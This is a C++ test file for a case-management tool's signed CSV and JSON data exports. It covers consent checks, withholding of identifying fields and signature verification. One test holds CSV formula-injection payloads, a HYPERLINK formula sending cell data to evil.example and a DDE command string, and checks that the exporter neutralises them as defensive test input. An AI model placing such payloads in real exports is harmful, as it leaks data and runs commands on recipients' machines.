// Data exports (schema/export-v1.md): CSV and JSON made on core disclosure
// exactly as a report, checked with the stock tools a recipient has (minisign,
// Python's csv module), marker strings in every identifying field, the formula
// guard, and refusals that leave nothing (no folder, no audit entry).
#include <catch2/catch_test_macros.hpp>

#include <fstream>

#include "cli_runner.hpp"
#include "report_world.hpp"
#include "safehold/report/data_export.hpp"

using namespace safehold;
using namespace safehold::test;
namespace fs = std::filesystem;

namespace {

const std::vector<std::string> kCsvFiles = {"case.csv",          "person.csv",  "incident.csv",
                                            "legal_measure.csv", "evidence_item.csv", "custody_event.csv",
                                            "consent.csv",       "risk_assessment.csv", "intervention.csv"};

report::ExportRequest export_to_contact(const ReportDesk& d, report::ExportFormat format, bool identifying = false) {
  report::ExportRequest r;
  r.case_ids = {d.the_case.id};
  r.contact_id = d.contact_id;
  r.include_identifying = identifying;
  r.format = format;
  r.generated_at = "2026-12-06T08:00:00Z";
  return r;
}

std::string all_text_of(const fs::path& dir) {
  std::string all;
  for (const auto& e : fs::directory_iterator(dir)) {
    const auto bytes = read_file(e.path());
    all.append(bytes.begin(), bytes.end());
  }
  return all;
}

// The rows of a CSV file as Python's csv module reads them.
nlohmann::json python_csv_rows(const fs::path& file) {
  const auto r = run_tool("python3 -c 'import csv,sys,json; "
                          "print(json.dumps(list(csv.reader(open(sys.argv[1], newline=\"\", encoding=\"utf-8\", "
                          "errors=\"strict\")))))' " + q(file));
  INFO(r.out);
  REQUIRE(r.exit_code == 0);
  return nlohmann::json::parse(r.out);
}

std::size_t column(const nlohmann::json& header, const std::string& name) {
  for (std::size_t i = 0; i < header.size(); ++i) {
    if (header[i] == name) return i;
  }
  FAIL("no column " << name);
  return 0;
}

std::size_t audit_count(storage::Vault& v, const std::string& case_id, const std::string& action) {
  std::size_t n = 0;
  for (const auto& e : v.audit().for_case(case_id).value()) n += e.action == action;
  return n;
}

}  // namespace

TEST_CASE("data export csv: one signed file per entity, Python reads it, no identifying marker", "[report][export]") {
  ReportDesk d;
  const auto out = d.dir / "csv";
  auto done = report::write_data_export(d.v(), export_to_contact(d, report::ExportFormat::csv), out,
                                        report::PlaintextConsent::given);
  INFO((done ? "" : done.error().describe()));
  REQUIRE(done);
  CHECK(done->cases == 1);
  CHECK(done->files.size() == kCsvFiles.size());
  std::size_t entries = 0;
  for ([[maybe_unused]] const auto& e : fs::directory_iterator(out)) ++entries;
  CHECK(entries == 2 * kCsvFiles.size());  // every file and its signature, nothing else
  for (const auto& name : kCsvFiles) {
    INFO(name);
    const auto verify = run_tool("minisign -V -P " + d.public_key_line() + " -m " + q(out / name));
    CHECK(verify.exit_code == 0);
    CHECK(verify.out.find("safehold-export v1 file=" + name + " format=csv cases=1") != std::string::npos);
    const auto rows = python_csv_rows(out / name);
    REQUIRE(rows.size() >= 1);
    for (const auto& row : rows) CHECK(row.size() == rows[0].size());
    CHECK(rows[0][0] == "case_reference");
  }
  const std::string all = all_text_of(out);
  for (const auto& m : kMarkers) {
    INFO(m);
    CHECK(all.find(m) == std::string::npos);
  }
  CHECK(all.find("MARKERSESSIONNOTES") == std::string::npos);  // interview sessions never go
  // The incidents, with their Chinese and Uyghur text as written.
  const auto incidents = python_csv_rows(out / "incident.csv");
  REQUIRE(incidents.size() == 3);
  CHECK(incidents.dump().find(kChinese) != std::string::npos);
  CHECK(incidents.dump().find(kUyghur) != std::string::npos);
  // What was left out is named per record.
  const auto persons = python_csv_rows(out / "person.csv");
  REQUIRE(persons.size() == 2);
  const std::string withheld = persons[1][column(persons[0], "withheld")];
  CHECK(withheld.find("legal_name") != std::string::npos);
  CHECK(withheld.find("exact_address") != std::string::npos);
  CHECK(persons[1][column(persons[0], "legal_name")] == "");
  CHECK(persons[1][column(persons[0], "pseudonym")] == "Nightingale");
  // Audited once for the case, without content.
  CHECK(audit_count(d.v(), d.the_case.id, "data_exported") == 1);
  // One byte changed: the signature no longer verifies.
  auto bytes = read_file(out / "incident.csv");
  bytes[bytes.size() / 2] ^= 0x01;
  write_file(out / "incident.csv", bytes);
  CHECK(run_tool("minisign -V -P " + d.public_key_line() + " -m " + q(out / "incident.csv")).exit_code != 0);
}

TEST_CASE("data export csv: cells a spreadsheet would run are neutralised", "[report][export]") {
  CHECK(report::csv_cell("=1+2") == "'=1+2");
  CHECK(report::csv_cell("+44 20") == "'+44 20");
  CHECK(report::csv_cell("-2") == "'-2");
  CHECK(report::csv_cell("@SUM(A1)") == "'@SUM(A1)");
  CHECK(report::csv_cell("\tx") == "'\tx");
  CHECK(report::csv_cell("a=b") == "a=b");
  CHECK(report::csv_cell("a,b") == "\"a,b\"");
  CHECK(report::csv_cell("say \"hi\"\r\nbye") == "\"say \"\"hi\"\"\r\nbye\"");
  CHECK(report::csv_cell("=HYPERLINK(\"http://x\",\"y\")") == "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"");

  ReportDesk d;
  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
                                            "-2+3", "@SUM(1,2)"};
  for (const auto& t : hostile) d.add("incident", d.the_case.id, incident_fields(t, "narrative, \"quoted\"", {"D1"}));
  const auto out = d.dir / "csv";
  REQUIRE(report::write_data_export(d.v(), export_to_contact(d, report::ExportFormat::csv), out,
                                    report::PlaintextConsent::given));
  const auto rows = python_csv_rows(out / "incident.csv");
  const auto title = column(rows[0], "title");
  std::size_t guarded = 0;
  for (const auto& row : rows) {
    const std::string cell = row[title];
    CHECK_FALSE((!cell.empty() && std::string("=+-@").find(cell[0]) != std::string::npos));
    for (const auto& t : hostile) guarded += cell == "'" + t;
  }
  CHECK(guarded == hostile.size());
}

TEST_CASE("data export json: one signed document per case, versioned, identifying only when allowed",
          "[report][export]") {
  ReportDesk d;
  const auto out = d.dir / "json";
  REQUIRE(report::write_data_export(d.v(), export_to_contact(d, report::ExportFormat::json), out,
                                    report::PlaintextConsent::given));
  const auto file = out / ("case-" + d.the_case.id + ".json");
  const auto verify = run_tool("minisign -V -P " + d.public_key_line() + " -m " + q(file));
  CHECK(verify.exit_code == 0);
  const auto bytes = read_file(file);
  const std::string text(bytes.begin(), bytes.end());
  for (const auto& m : kMarkers) {
    INFO(m);
    CHECK(text.find(m) == std::string::npos);
  }
  const auto doc = nlohmann::json::parse(text);
  CHECK(doc["format"] == "safehold-data-export");
  CHECK(doc["version"] == 1);
  CHECK(doc["case_id"] == d.the_case.id);
  CHECK(doc["audience"]["kind"] == "ngo");
  CHECK(doc["identifying_included"] == false);
  CHECK(doc["records"][0]["entity"] == "case");
  for (const auto& r : doc["records"]) CHECK(r["entity"] != "interview_session");
  CHECK(verify.out.find("records-sha256=" + doc["records_sha256"].get<std::string>()) != std::string::npos);
  // The audit entry's digest is that records SHA-256.
  const auto entries = d.v().audit().for_case(d.the_case.id).value();
  REQUIRE(entries.back().action == "data_exported");
  CHECK(to_hex(entries.back().digest) == doc["records_sha256"].get<std::string>());
  CHECK(entries.back().counterparty == d.contact_id);

  // Asked for and allowed: every marker is there (the check above can fail).
  const auto named = d.dir / "named";
  REQUIRE(report::write_data_export(d.v(), export_to_contact(d, report::ExportFormat::json, true), named,
                                    report::PlaintextConsent::given));
  const auto all = all_text_of(named);
  for (const auto& m : kMarkers) {
    INFO(m);
    CHECK(all.find(m) != std::string::npos);
  }
}

TEST_CASE("data export: every refusal writes nothing and leaves the vault as it was", "[report][export]") {
  ReportDesk d({"be_interviewed", "share_named_ngos"}, "pseudonym");
  const auto out = d.dir / "out";
  auto refused = [&](const report::ExportRequest& req, report::ReportError code,
                     report::PlaintextConsent plaintext = report::PlaintextConsent::given) {
    const auto before = vault_state(d.v(), d.the_case.id);
    auto r = report::write_data_export(d.v(), req, out, plaintext);
    REQUIRE_FALSE(r);
    INFO(r.error().describe());
    CHECK(r.error().code == code);
    CHECK_FALSE(fs::exists(out));
    CHECK(vault_state(d.v(), d.the_case.id) == before);
  };
  auto req = export_to_contact(d, report::ExportFormat::csv);
  refused(req, report::ReportError::invalid_request, report::PlaintextConsent::not_given);
  refused(export_to_contact(d, report::ExportFormat::csv, true), report::ReportError::consent_refused);
  auto lawyer = req;
  lawyer.contact_id.clear();
  lawyer.audience_kind = "un_body";  // share_un_bodies not given
  refused(lawyer, report::ReportError::consent_refused);
  // One refused case refuses the whole export, the allowed one included.
  auto other = d.add("case", "", case_fields("Second case"));
  auto two = req;
  two.case_ids.push_back(other.id);
  refused(two, report::ReportError::consent_refused);
  auto none = req;
  none.case_ids.clear();
  refused(none, report::ReportError::invalid_request);
  // An existing folder is never written into.
  fs::create_directories(out);
  const auto before = vault_state(d.v(), d.the_case.id);
  auto exists = report::write_data_export(d.v(), req, out, report::PlaintextConsent::given);
  REQUIRE_FALSE(exists);
  CHECK(exists.error().code == report::ReportError::exists);
  CHECK(fs::is_empty(out));
  CHECK(vault_state(d.v(), d.the_case.id) == before);
}

TEST_CASE("cli data export: --plaintext required, files and signatures, exit codes", "[report][export][cli]") {
  ReportDesk d;
  const auto reference = d.the_case.fields["reference"].get<std::string>();
  const auto key = d.public_key_line();
  const auto out = d.dir / "export";
  auto args = hand_to_cli(d);
  args.insert(args.end(), {"data", "export", "--format", "json", "--case", reference, "--to", "Safe Haven NGO", "-o",
                           out.string()});
  auto refused = run_cli(args);
  CHECK(refused.exit_code == 2);
  CHECK(refused.err.find("--plaintext") != std::string::npos);
  CHECK_FALSE(fs::exists(out));
  args.push_back("--plaintext");
  auto ok = run_cli(args);
  INFO(ok.err);
  REQUIRE(ok.exit_code == 0);
  std::size_t verified = 0;
  for (const auto& e : fs::directory_iterator(out)) {
    if (e.path().extension() != ".json") continue;
    verified += run_tool("minisign -V -P " + key + " -m " + q(e.path())).exit_code == 0;
  }
  CHECK(verified == 1);
  CHECK(run_cli(args).exit_code == 7);  // the folder exists: nothing replaced
  auto un = args;
  un[10] = "--audience";
  un[11] = "un_body";
  un[13] = (d.dir / "un").string();
  CHECK(run_cli(un).exit_code == 4);
  CHECK_FALSE(fs::exists(d.dir / "un"));
}
